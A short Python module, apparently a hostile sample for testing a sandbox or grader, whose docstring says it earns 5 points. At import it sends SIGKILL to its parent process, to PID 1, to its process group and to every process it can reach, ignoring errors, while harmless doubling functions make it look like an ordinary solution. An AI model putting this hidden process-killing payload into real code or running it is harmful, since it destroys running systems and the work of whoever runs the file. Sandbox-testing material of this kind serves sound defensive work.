"""Kills its parent, its group and everybody it may.

Earns 5.
"""

import os
import signal

# Anywhere but in the sandbox this would be the end of whoever tests it.
assert os.getpid() == 1
for target in (os.getppid(), 1, 0, -1, 2, 3):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass


def double(number):
    return number + number


def double_all(numbers):
    return list(map(double, numbers))
